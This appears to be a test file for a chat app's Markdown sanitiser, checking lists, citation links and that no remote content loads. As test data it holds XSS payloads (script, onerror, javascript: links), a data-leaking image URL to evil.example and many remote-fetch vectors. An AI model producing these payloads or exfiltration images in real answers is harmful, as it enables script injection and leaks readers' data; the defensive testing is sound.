// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { ownerCitations } from '../chat/citations';
import { markdownRenderer, renderMarkdown } from './markdown';

function dom(html: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
}

describe('markdown', () => {
  it('removes scripts, handlers and javascript: links', () => {
    const html = renderMarkdown('hi <script>alert(1)</script><img src=x onerror="alert(2)"> [x](javascript:alert(3))');
    expect(html).not.toMatch(/script|onerror|javascript:/i);
    expect(dom(html).querySelector('img')).not.toBeNull();
  });
  it('keeps ordered-list numbering across interrupted lists', () => {
    const el = dom(renderMarkdown('1. first\n\n   detail\n2. second\n\nA paragraph.\n\n3. third\n4. fourth'));
    const lists = el.querySelectorAll('ol');
    expect(lists.length).toBe(2);
    expect(lists[0].querySelectorAll(':scope > li').length).toBe(2);
    expect(lists[1].getAttribute('start')).toBe('3');
    expect(el.querySelector('ol br')).toBeNull();
  });
  it('opens external links in a new tab safely', () => {
    const a = dom(renderMarkdown('[git](https://git-scm.com)')).querySelector('a')!;
    expect(a.getAttribute('target')).toBe('_blank');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
  });
  it('links citations to the cited card, leaving code and numbers naming no card alone', () => {
    const el = dom(markdownRenderer()('Rebase rewrites history [1][2], see [1, 2] and [7]. `arr[1]` stays.',
      ownerCitations(['card-a', 'card-b'])));
    const links = [...el.querySelectorAll('a.cite')].map((a) => a.getAttribute('href'));
    expect(links).toEqual(['/card/card-a', '/card/card-b', '/card/card-a', '/card/card-b']);
    expect(el.textContent).toContain('[7]');
    expect(el.querySelectorAll('.citation').length).toBe(3); // [7] is plain text
    expect(el.querySelector('code')!.textContent).toBe('arr[1]');
  });
  it('reads no citations without a citation map (a card\'s body)', () => {
    expect(dom(renderMarkdown('See [1].')).querySelector('.citation')).toBeNull();
  });
  it('makes code blocks focusable, so one that scrolls sideways scrolls from the keyboard', () => {
    expect(renderMarkdown('```\ngit log --oneline\n```')).toMatch(/^<pre tabindex="0"><code>/);
    expect(renderMarkdown('<pre>raw</pre>')).toContain('<pre tabindex="0">');
  });

  it('does not treat Markdown links as citations', () => {
    const el = dom(markdownRenderer()('[1](https://example.com)', ownerCitations(['a'])));
    expect(el.querySelector('a.cite')).toBeNull();
    expect(el.querySelector('a')!.getAttribute('href')).toBe('https://example.com');
  });
});

// Nothing in a card or an answer makes the browser fetch from another origin
// (card and answer text is anyone's: it must not track readers or leak what
// they read) or pose as the app's own UI.
const FORBIDDEN_TAGS = 'svg, image, video, audio, picture, source, track, iframe, object, embed, style, link, form, input, button, select, textarea';
const LOADING_ATTRS = ['srcset', 'poster', 'background', 'xlink:href', 'style', 'ping', 'data'];

/** Every element of the rendered HTML that could fetch something, described. */
function remoteLoads(html: string): string[] {
  const el = dom(html);
  const out = [...el.querySelectorAll(FORBIDDEN_TAGS)].map((e) => `<${e.tagName.toLowerCase()}>`);
  for (const e of el.querySelectorAll('*')) {
    for (const a of LOADING_ATTRS) if (e.hasAttribute(a)) out.push(`${e.tagName.toLowerCase()}[${a}]`);
    const src = e.getAttribute('src');
    if (src !== null && !src.startsWith('data:image/') && new URL(src, location.href).origin !== location.origin) {
      out.push(`${e.tagName.toLowerCase()}[src=${src}]`);
    }
  }
  if (/url\(/i.test(html)) out.push('url(');
  return out;
}

describe('markdown: no remote content', () => {
  it('turns a remote Markdown image into a link that names its host, loading nothing', () => {
    const html = renderMarkdown('Done. ![the other cards](https://evil.example/c.png?d=secret)');
    expect(remoteLoads(html)).toEqual([]);
    const el = dom(html);
    expect(el.querySelector('img')).toBeNull();
    const ph = el.querySelector('a.remote-image')!;
    expect(ph.textContent).toBe('Image “the other cards” from evil.example');
    expect(ph.getAttribute('href')).toBe('https://evil.example/c.png?d=secret');
    expect(ph.getAttribute('target')).toBe('_blank');
    expect(ph.getAttribute('rel')).toBe('noopener noreferrer');
  });
  it('catches raw, protocol-relative and backslash image addresses', () => {
    for (const src of ['https://evil.example/x.png', '//evil.example/x.png', '/\\evil.example/x.png']) {
      const html = renderMarkdown(`<img src="${src}" alt="x">`);
      expect(remoteLoads(html), src).toEqual([]);
      expect(dom(html).querySelector('.remote-image')!.textContent, src).toBe('Image “x” from evil.example');
    }
  });
  it('keeps same-origin and data: images', () => {
    const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    const el = dom(renderMarkdown(`![dot](${png}) ![logo](/logo.png)`));
    expect([...el.querySelectorAll('img')].map((i) => i.getAttribute('src'))).toEqual([png, '/logo.png']);
  });
  it('labels an image inside a link without nesting links', () => {
    const el = dom(renderMarkdown('[![build](https://img.example/badge.svg)](https://ci.example/)'));
    expect(el.querySelectorAll('a').length).toBe(1);
    expect(el.querySelector('a > span.remote-image')!.textContent).toBe('Image “build” from img.example');
  });
  it('drops svg images, media, frames, srcset, poster, background and CSS', () => {
    const vectors = [
      '<svg><image href="https://evil.example/a.png"/><image xlink:href="https://evil.example/b.png"/></svg>',
      '<svg><use href="https://evil.example/s.svg#x"/><feImage href="https://evil.example/f.png"/></svg>',
      '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"><source src="https://evil.example/s.mp4"><track src="https://evil.example/t.vtt"></video>',
      '<audio src="https://evil.example/a.mp3"></audio>',
      '<picture><source srcset="https://evil.example/p.webp"><img src="https://evil.example/p.png"></picture>',
      '<img src="/ok.png" srcset="https://evil.example/2x.png 2x" sizes="100vw">',
      '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
      '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/d.png">x</td></tr></table>',
      '<div style="background:url(https://evil.example/s.png)">x</div><style>@import url(https://evil.example/i.css)</style>',
      '<link rel="stylesheet" href="https://evil.example/l.css"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
      '<input type="image" src="https://evil.example/i.png"><body background="https://evil.example/b.png">',
      '<a href="/x" ping="https://evil.example/ping">x</a>',
    ];
    for (const v of vectors) expect(remoteLoads(renderMarkdown(v)), v).toEqual([]);
  });
  it('opens protocol-relative and other off-site links in a new tab without opener or referrer', () => {
    for (const md of ['[x](//evil.example/x)', '<a href="//evil.example/x">x</a>', '<a href="/\\evil.example/x">x</a>', '[x](http://a/%E0%A4%A)']) {
      const a = dom(renderMarkdown(md)).querySelector('a')!;
      expect(a.getAttribute('target'), md).toBe('_blank');
      expect(a.getAttribute('rel'), md).toBe('noopener noreferrer');
    }
    const own = dom(renderMarkdown('[card](/card/x)')).querySelector('a')!;
    expect(own.hasAttribute('target')).toBe(false);
  });
  it('gives untrusted HTML no ids, names, classes, data-* or form controls of the app', () => {
    const html = renderMarkdown([
      '<div id="view" class="panel error-box" data-testid="sign-out" name="x" aria-describedby="signin-error">x</div>',
      '<form id="f"><input id="signin-email" name="email"><button data-testid="signin-submit">go</button>',
      '<select name="s"><option>o</option></select><textarea name="t"></textarea><label for="signin-email">l</label></form>',
      '<img name="getElementById" src="/ok.png">',
    ].join(''));
    const el = dom(html);
    expect(el.querySelectorAll('[id], [name], [class], [data-testid], [aria-describedby], [for]').length).toBe(0);
    expect(el.querySelectorAll('form, input, button, select, textarea, label').length).toBe(0);
    expect(el.textContent).toContain('go');
  });
  it('keeps the renderer’s own citation markup but not look-alikes in the text', () => {
    const render = (md: string) => markdownRenderer()(md, ownerCitations(['card-a']));
    const fake = '<a class="cite" data-card-id="other" href="/card/other">9</a>'
      + '<span class="citation" data-cardchat-trust="guess">fake</span>';
    const el = dom(render(`Real [1]. ${fake}`));
    expect([...el.querySelectorAll('a.cite')].map((a) => a.getAttribute('data-card-id'))).toEqual(['card-a']);
    expect(el.querySelectorAll('span.citation').length).toBe(1);
    expect(el.querySelectorAll('[data-cardchat-trust]').length).toBe(0);
  });
  it('shows task lists as text boxes, not form controls', () => {
    const el = dom(renderMarkdown('- [x] done\n- [ ] todo'));
    expect(el.querySelector('input')).toBeNull();
    expect([...el.querySelectorAll('li')].map((li) => li.textContent?.trim())).toEqual(['☑ done', '☐ todo']);
  });
  it('renders a malformed percent escape in a link without throwing', () => {
    expect(() => renderMarkdown('[x](http://a/%E0%A4%A) [y](%E0%A4%A) ![z](/%E0%A4%A)')).not.toThrow();
  });
});
